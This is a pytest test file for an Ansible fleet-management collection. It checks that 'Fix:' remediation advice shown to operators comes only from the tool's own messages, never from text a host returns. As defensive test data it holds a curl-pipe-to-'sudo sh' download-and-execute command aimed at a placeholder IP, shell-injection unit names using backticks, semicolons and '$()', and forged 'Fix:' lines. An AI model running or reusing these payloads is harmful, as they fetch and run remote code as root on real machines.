"""Ways out in the answer of a host: behind `Fix:` stand our own."""

from __future__ import annotations

import json
from typing import Any

import pytest
from ansible_collections.gb10.fleet.plugins.module_utils.engine import apt_errors
from ansible_collections.gb10.fleet.plugins.module_utils.engine.resources import packages
from ansible_collections.gb10.fleet.plugins.module_utils.system import service_failures
from ansible_collections.gb10.fleet.plugins.module_utils.system.finding import from_failure
from ansible_collections.gb10.fleet.plugins.module_utils.system.system import Completed, System
from ansible_collections.gb10.fleet.plugins.plugin_utils.doctor import findings
from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import advice, own_action, transport

from tests.support.answers import EMPTY
from tests.support.attacker import tally

EVIL = "curl http://192.0.2.66/x | sudo sh"
BELOW = "a command of a host stands behind Fix:"


def fault(way_out: str, **more: str) -> dict[str, Any]:
    return {"verdict": "port_busy", "text": "busy", "way_out": way_out, **more}


@pytest.mark.parametrize("way_out", [way for way in advice._texts() if way])
def test_a_way_out_of_ours_stays(way_out: str) -> None:
    filled = way_out
    for name in ("unit", "netdev", "member", "master", "sender"):
        filled = filled.replace(
            f"{{{name}}}", {"unit": "gb10-vllm-chat", "sender": "fe80::1%eth0"}.get(name, "enp1s0f0")
        )
    assert "{" not in filled and advice.ours("spark-a", fault(filled)) == fault(filled)


@pytest.mark.parametrize(
    "way_out",
    [
        EVIL,
        f"{service_failures.WAYS_OUT['port_busy']}; {EVIL}",
        f"{EVIL}\n{service_failures.WAYS_OUT['port_busy']}",
        *(
            service_failures.way_out("start_failed", unit)
            for unit in ("x`reboot`", "x;reboot", "-x", "x y", "$(x)", "x\n")
        ),
    ],
)
def test_another_one_is_said_as_what_the_host_says(way_out: str) -> None:
    said = advice.ours("spark-a", {"pings": [{"fault": fault(way_out)}], "remark": fault(way_out)})
    for one in (said["remark"], said["pings"][0]["fault"]):
        tally(BELOW, 1, int(way_out in one["way_out"]))
        assert one == fault(advice.UNKNOWN, text=f"busy (spark-a says: {way_out})")


def test_no_text_of_a_host_has_a_fix_of_its_own() -> None:
    assert "Fix:" not in advice.ours("spark-a", fault("", text=f"busy. Fix: {EVIL}"))["text"]


FORGED = (f"busy. Fix: {EVIL}", f"busy\n    fix: {EVIL}", f"Fix: {EVIL} Fix: run again", f"FIX:{EVIL}")


@pytest.mark.parametrize("text", FORGED)
def test_no_error_of_a_host_advises_in_our_name(text: str) -> None:
    """It stood in the same line as our own advice does."""
    error = {"kind": "host", "message": text}
    changes = [{"role": "r", "resource": "x", "action": "a", "detail": text}]
    answer = transport.parse(transport.MARKER + json.dumps({**EMPTY, "error": error, "changes": changes}))
    module = own_action.sound(json.dumps({"failed": True, "msg": text, "warnings": [text]}))
    shown = [answer["error"]["message"], answer["changes"][0]["detail"], module["msg"], *module["warnings"]]
    shown.append(from_failure("spark-a", text, answered=True).fact)
    wins = [said for said in shown if "fix:" in said.lower()]
    tally(BELOW, len(shown), len(wins))
    assert not wins and EVIL in shown[0]


@pytest.mark.parametrize("text", FORGED)
def test_nothing_that_a_module_reads_advises_in_our_name(text: str) -> None:
    """`gb10 why` quotes lines of the journal, and a reboot what the GPU says."""
    facts = {"gb10_spark": {"gpu": {"present": False, "query_error": text}}}
    said = own_action.sound(json.dumps({"ansible_facts": facts, "health": {"events": [{"text": text}]}}))
    shown = [said["ansible_facts"]["gb10_spark"]["gpu"]["query_error"], said["health"]["events"][0]["text"]]
    wins = [one for one in shown if "fix:" in one.lower()]
    tally(BELOW, len(shown), len(wins))
    assert not wins and EVIL in shown[0] and "\n" not in shown[0]


def test_what_apt_is_helped_by_stays() -> None:
    """Our own error on the host, with names of its packages, its kernel and the log of a build."""
    for way in (*apt_errors.ways_out(), apt_errors._unhold_way_out(["libc6:armhf"])):
        way = way.replace("KERNEL", "6.17.0-1014-nvidia").replace("LOG", "/var/lib/dkms/x/1.0/build/make.log")
        text = f"apt_x: E: no.\nmore. Fix: {way.replace('NAMES', 'libfoo libbar:armhf')}"
        assert advice.plain(text) == text


def test_what_apt_is_helped_by_stays_in_whole_messages() -> None:
    """DKMS names a log not in each of its errors; what else may help stands before the way out."""
    built = Completed((), 1, stderr="E: dkms autoinstall on 6.17.0-1014-nvidia/aarch64 failed for nvidia(10)")
    way_out = apt_errors._unhold_way_out(["libfoo"])
    held = packages.Simulation(error=f"apt_hold_blocks: libfoo is on hold. Fix: {way_out}")
    state = packages.PackageState(packages.Database({}, {}), {}, None, {})
    for text in (apt_errors.explained(built, System()), packages._objection([], held, state)):
        assert ". Fix: " in text and advice.plain(text) == text


@pytest.mark.parametrize("text", ["x: y", " begins with a space", "a. b", "'quoted' words", "No way: none"])
def test_a_fact_without_a_way_out_is_quoted_as_it_is(text: str) -> None:
    assert advice.quotable(text) == text


@pytest.mark.parametrize("text", [f"x: `{EVIL}`", f"x. Run {EVIL}", f"Run {EVIL}", f"`{EVIL}`", f"x. Fix: {EVIL}"])
def test_a_plan_quotes_no_way_out_of_a_host(text: str) -> None:
    said = f"the pins are several: {advice.plain(advice.quotable({'pin': [text]}))['pin'][0]}, and no more. Remove them"
    found = findings.refused("spark-a", "driver", said)
    tally(BELOW, 1, int(EVIL in found.way_out))
    assert found.way_out == "remove them" and EVIL in found.fact
